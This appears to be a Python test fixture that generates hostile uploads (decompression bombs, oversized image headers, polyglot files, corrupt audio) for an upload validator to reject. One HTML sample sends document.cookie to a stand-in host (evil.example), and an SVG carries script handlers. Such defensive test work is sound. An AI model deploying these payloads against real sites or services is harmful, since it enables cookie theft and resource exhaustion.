"""Hostile and broken uploads, generated in code (nothing committed): each `HostileCase`
is one *kind* of bad file and the failure reason the CPU stage must give it.

The limits these cases are built against are `HOSTILE_LIMITS` (small, so the "too big"
cases stay small files); the stack that runs them must use the same limits.
"""

from __future__ import annotations

import io
import math
import random
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import av
import numpy as np
from PIL import Image

from shared.events import Modality
from tests.support.media import subtitle_only_mkv

HOSTILE_LIMITS = {
    "max_bytes": 2 * 1024 * 1024,
    "max_pixels": 16_000_000,
    "max_audio_s": 30.0,
    "max_text_chars": 5_000,
}


@dataclass(frozen=True)
class HostileCase:
    kind: str
    data: bytes
    reason: str  # the failure reason the upload must end with
    content_type: str | None = None  # what the producer declares
    modality: Modality = Modality.AUTO  # what the producer claims

    @property
    def filename(self) -> str:
        return f"{self.kind}.bin"


# -- building blocks ------------------------------------------------------------------------


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_ihdr(width: int, height: int, *, color_type: int = 2) -> bytes:
    return png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0))


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def flat_png(width: int, height: int, *, channels: int = 3) -> bytes:
    """A valid PNG of one flat colour, compressed row by row (never held decoded here)."""
    color_type = {1: 0, 3: 2, 4: 6}[channels]
    compressor = zlib.compressobj(6)
    row = b"\x00" + bytes([200, 30, 30, 255][:channels]) * width  # filter byte + pixels
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        PNG_SIGNATURE
        + png_ihdr(width, height, color_type=color_type)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def encoded_image(fmt: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    rng = np.random.default_rng(7)
    pixels = rng.integers(0, 255, size=(size[1], size[0], 3), dtype=np.uint8)
    out = io.BytesIO()
    Image.fromarray(pixels).save(out, format=fmt, **options)
    return out.getvalue()


def wav_bytes(*, seconds: float, rate_hz: int = 8000, channels: int = 1, samples: np.ndarray | None = None) -> bytes:
    if samples is None:
        t = np.arange(int(seconds * rate_hz)) / rate_hz
        samples = (np.sin(2 * math.pi * 440 * t) * 8000).astype(np.int16)
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(channels)
        w.setsampwidth(2)
        w.setframerate(rate_hz)
        w.writeframes(np.repeat(samples, channels).tobytes())
    return out.getvalue()


def wav_header(*, rate_hz: int, channels: int, data_bytes: int, bits: int = 16) -> bytes:
    """A RIFF/WAVE header with any field values, valid or absurd."""
    block_align = (channels * bits // 8) & 0xFFFF
    fmt = struct.pack("<HHIIHH", 1, channels, rate_hz, (rate_hz * block_align) & 0xFFFFFFFF, block_align, bits)
    body = b"WAVE" + b"fmt " + struct.pack("<I", len(fmt)) + fmt + b"data" + struct.pack("<I", data_bytes)
    return b"RIFF" + struct.pack("<I", (len(body) + data_bytes) & 0xFFFFFFFF) + body


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")
    return out.getvalue()


def _cut_before_moov() -> bytes:
    data = video_only_mp4()
    return data[: data.index(b"moov") - 4]


def video_only_mp4() -> bytes:
    """An MP4 with one short video stream and no audio."""
    out = io.BytesIO()
    with av.open(out, mode="w", format="mp4") as container:
        stream = container.add_stream("mpeg4", rate=10)
        stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
        for index in range(5):
            frame = av.VideoFrame.from_ndarray(np.full((48, 64, 3), index * 40, dtype=np.uint8), format="rgb24")
            for packet in stream.encode(frame):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    return out.getvalue()


def animated_gif(frames: int) -> bytes:
    """A small GIF with `frames` frames (legal; only the first is embedded)."""
    rng = np.random.default_rng(11)
    images = [Image.fromarray(rng.integers(0, 255, (8, 8), dtype=np.uint8)) for _ in range(frames)]
    out = io.BytesIO()
    images[0].save(out, format="GIF", save_all=True, append_images=images[1:], duration=10, loop=0)
    return out.getvalue()


def _jpeg_huge_sof() -> bytes:
    sof = struct.pack(">BHHB", 8, 60000, 60000, 3) + b"\x01\x11\x00\x02\x11\x00\x03\x11\x00"
    return b"\xff\xd8" + b"\xff\xc0" + struct.pack(">H", 2 + len(sof)) + sof + b"\xff\xd9"


def _gif_huge_screen() -> bytes:
    screen = struct.pack("<HHBBB", 65535, 65535, 0, 0, 0)
    descriptor = b"," + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
    return b"GIF89a" + screen + descriptor + b"\x02\x02\x44\x01\x00" + b";"


def _bmp_huge() -> bytes:
    info = struct.pack("<IiiHHIIiiII", 40, 100_000, 100_000, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + 40 + 16, 0, 0, 54) + info + b"\x00" * 16


def _tiff_huge() -> bytes:
    entries = [
        (256, 4, 1, 100_000),  # ImageWidth LONG
        (257, 4, 1, 100_000),  # ImageLength LONG
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 1),  # Compression none
        (262, 3, 1, 1),  # Photometric min-is-black
        (273, 4, 1, 8),  # StripOffsets
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, 100_000),  # RowsPerStrip
        (279, 4, 1, 16),  # StripByteCounts
    ]
    ifd_offset = 8 + 16
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        packed = struct.pack("<HHI", tag, kind, count)
        ifd += packed + (struct.pack("<I", value) if kind == 4 else struct.pack("<HH", value, 0))
    return b"II*\x00" + struct.pack("<I", ifd_offset) + b"\x00" * 16 + ifd + b"\x00\x00\x00\x00"


def _webp_huge_canvas() -> bytes:
    width = height = 16384
    vp8x = (
        b"VP8X"
        + struct.pack("<I", 10)
        + b"\x00\x00\x00\x00"
        + (width - 1).to_bytes(3, "little")
        + (height - 1).to_bytes(3, "little")
    )
    bits = (width - 1) | ((height - 1) << 14)
    vp8l_body = b"\x2f" + bits.to_bytes(4, "little") + b"\x00" * 8
    vp8l = b"VP8L" + struct.pack("<I", len(vp8l_body)) + vp8l_body
    body = b"WEBP" + vp8x + vp8l
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _png_ztxt_bomb() -> bytes:
    """A 1x1 PNG whose compressed text chunk inflates to 64 MiB."""
    compressor = zlib.compressobj(9)
    bomb = b"".join(compressor.compress(b"\x00" * (1 << 20)) for _ in range(64)) + compressor.flush()
    ztxt = png_chunk(b"zTXt", b"Comment\x00\x00" + bomb)
    pixel = png_chunk(b"IDAT", zlib.compress(b"\x00\x00\x00\x00"))
    return PNG_SIGNATURE + png_ihdr(1, 1) + ztxt + pixel + png_chunk(b"IEND", b"")


def _png_bad_crc() -> bytes:
    good = encoded_image("PNG")
    # Flip one bit inside the IDAT chunk's data: its CRC no longer matches.
    at = good.index(b"IDAT") + 20
    return good[:at] + bytes([good[at] ^ 0x01]) + good[at + 1 :]


def _png_huge_ihdr() -> bytes:
    """A well-formed PNG whose header announces 10^10 pixels (with one byte of data)."""
    idat = png_chunk(b"IDAT", zlib.compress(b"\x00"))
    return PNG_SIGNATURE + png_ihdr(100_000, 100_000) + idat + png_chunk(b"IEND", b"")


def _png_zero_width() -> bytes:
    return PNG_SIGNATURE + png_ihdr(0, 10) + png_chunk(b"IDAT", zlib.compress(b"")) + png_chunk(b"IEND", b"")


def _truncated(data: bytes, keep: float = 0.5) -> bytes:
    return data[: max(16, int(len(data) * keep))]


def _random_bytes(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _mp3_garbage() -> bytes:
    """Two MPEG-1 layer III frame headers back to back (enough to be taken for MP3),
    then noise: no decodable audio."""
    header = b"\xff\xfb\x90\x64"  # 128 kbit/s, 44.1 kHz: 417-byte frames
    frame = header + _random_bytes(413, 3)
    return frame + header + _random_bytes(3000, 4)


def _flac_garbage() -> bytes:
    """A FLAC stream header (last-metadata-block flag set, plausible STREAMINFO: 44.1 kHz,
    stereo, 16 bit, 1 s), then noise instead of frames."""
    streaminfo = bytes.fromhex("1000 1000 000000 000000 0ac442f0 00 00ac44") + bytes(16)
    return b"fLaC" + b"\x80\x00\x00\x22" + streaminfo + _random_bytes(4000, 6)


def _ogg_garbage() -> bytes:
    return b"OggS\x00\x02" + _random_bytes(4000, 8)


def _heic_brand() -> bytes:
    return struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heic" + _random_bytes(200, 9)


# -- the catalogue --------------------------------------------------------------------------


def _cases() -> list[HostileCase]:
    limits = HOSTILE_LIMITS
    jpeg = encoded_image("JPEG", (320, 240), quality=90)
    png = encoded_image("PNG", (160, 120))
    gif = encoded_image("GIF", (160, 120))
    webp = encoded_image("WEBP", (160, 120), quality=80)
    sine = wav_bytes(seconds=3)
    html = b"<!doctype html><html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>\n"
    svg = (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
        b'onload="alert(1)"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n'
    )
    return [
        HostileCase("zero_bytes", b"", "empty_file"),
        HostileCase("truncated_jpeg", _truncated(jpeg), "corrupt_image"),
        HostileCase("truncated_png", _truncated(png), "corrupt_image"),
        HostileCase("truncated_gif", _truncated(gif, 0.3), "corrupt_image"),
        HostileCase("truncated_webp", _truncated(webp), "corrupt_image"),
        HostileCase("jpeg_soi_then_garbage", b"\xff\xd8\xff\xe0" + _random_bytes(5000, 1), "corrupt_image"),
        HostileCase("png_bad_crc", _png_bad_crc(), "corrupt_image"),
        HostileCase("png_zero_width", _png_zero_width(), "corrupt_image"),
        HostileCase("png_ztxt_decompression_bomb", _png_ztxt_bomb(), "corrupt_image"),
        HostileCase("jpeg_header_60000x60000", _jpeg_huge_sof(), "too_many_pixels"),
        HostileCase("png_ihdr_100000x100000", _png_huge_ihdr(), "too_many_pixels"),
        # 144 MB of pixels in ~140 KB: under Pillow's own bomb guard, refused by ours.
        HostileCase("png_deflate_bomb_12000x12000", flat_png(12_000, 12_000, channels=1), "too_many_pixels"),
        HostileCase("gif_screen_65535x65535", _gif_huge_screen(), "too_many_pixels"),
        HostileCase("bmp_100000x100000", _bmp_huge(), "too_many_pixels"),
        HostileCase("tiff_100000x100000", _tiff_huge(), "too_many_pixels"),
        HostileCase("webp_canvas_16384x16384", _webp_huge_canvas(), "too_many_pixels"),
        HostileCase("valid_png_over_max_pixels", flat_png(4100, 4000), "too_many_pixels"),
        HostileCase("over_max_bytes", b"\xff\xd8\xff\xe0" + b"\x00" * limits["max_bytes"], "too_large"),
        HostileCase("polyglot_png_zip", png + zip_bytes(), "polyglot"),
        HostileCase("polyglot_gif_jar", gif + zip_bytes(), "polyglot"),
        HostileCase("polyglot_html_then_png", html + png, "unsupported_format"),
        HostileCase("zip_archive", zip_bytes(), "unsupported_format"),
        HostileCase("random_bytes", _random_bytes(4096, 2), "unsupported_format"),
        HostileCase("elf_executable", b"\x7fELF\x02\x01\x01\x00" + _random_bytes(2000, 10), "unsupported_format"),
        HostileCase("heic_image", _heic_brand(), "unsupported_format"),
        HostileCase("html_disguised_as_png", html, "content_type_mismatch", content_type="image/png"),
        HostileCase("svg_script_disguised_as_jpeg", svg, "content_type_mismatch", content_type="image/jpeg"),
        HostileCase("jpeg_labelled_as_audio", jpeg, "content_type_mismatch", content_type="audio/wav"),
        HostileCase("text_claimed_as_image", b"just some words\n", "modality_mismatch", modality=Modality.IMAGE),
        HostileCase("latin1_text", "Crème brûlée à la française, déjà vu.\n".encode("latin-1"), "not_utf8"),
        HostileCase("nul_laden_text", b"hello\x00world\x00" * 50, "not_text"),
        HostileCase("over_long_text", b"word " * (limits["max_text_chars"] // 5 + 100), "text_too_long"),
        HostileCase("over_long_audio", wav_bytes(seconds=limits["max_audio_s"] * 1.5), "audio_too_long"),
        HostileCase(
            "wav_header_promises_hours",
            wav_header(rate_hz=8000, channels=1, data_bytes=0x7FFFFFF0) + b"\x00" * 16000,
            "truncated_audio",
        ),
        HostileCase(
            "wav_absurd_sample_rate",
            wav_header(rate_hz=0xFFFFFFF0, channels=1, data_bytes=16000) + b"\x00" * 16000,
            "corrupt_audio",
        ),
        HostileCase(
            "wav_absurd_channel_count",
            wav_header(rate_hz=8000, channels=65535, data_bytes=16000) + b"\x00" * 16000,
            "corrupt_audio",
        ),
        HostileCase("wav_no_samples", wav_header(rate_hz=8000, channels=1, data_bytes=0), "empty_audio"),
        HostileCase("truncated_wav", _truncated(sine, 0.4), "truncated_audio"),
        HostileCase("mp3_frames_of_noise", _mp3_garbage(), "corrupt_audio"),
        HostileCase("flac_header_then_noise", _flac_garbage(), "empty_audio"),
        HostileCase("ogg_garbage", _ogg_garbage(), "corrupt_audio"),
        # A silent MP4 is a video upload now (indexed); claimed as audio, it has no sound to embed.
        HostileCase("video_only_mp4_as_audio", video_only_mp4(), "no_audio_stream", modality=Modality.AUDIO),
        # A video upload cut before its index (moov atom, written last): a video reason.
        HostileCase("mp4_cut_before_moov", _cut_before_moov(), "truncated_video"),
        HostileCase("subtitle_only_matroska", subtitle_only_mkv(), "no_media_stream"),
    ]


def hostile_cases() -> list[HostileCase]:
    """Every kind of bad upload, built fresh (a few hundred KB in all)."""
    cases = _cases()
    kinds = [case.kind for case in cases]
    assert len(kinds) == len(set(kinds)), "kinds must be distinct"
    return cases


# Uploads that look alarming but are legal: they must be indexed, with bounded work.
TOLERATED: dict[str, Callable[[], tuple[bytes, str | None]]] = {
    "animated_gif_3000_frames": lambda: (animated_gif(3000), None),
    "png_labelled_as_jpeg": lambda: (encoded_image("PNG"), "image/jpeg"),
}
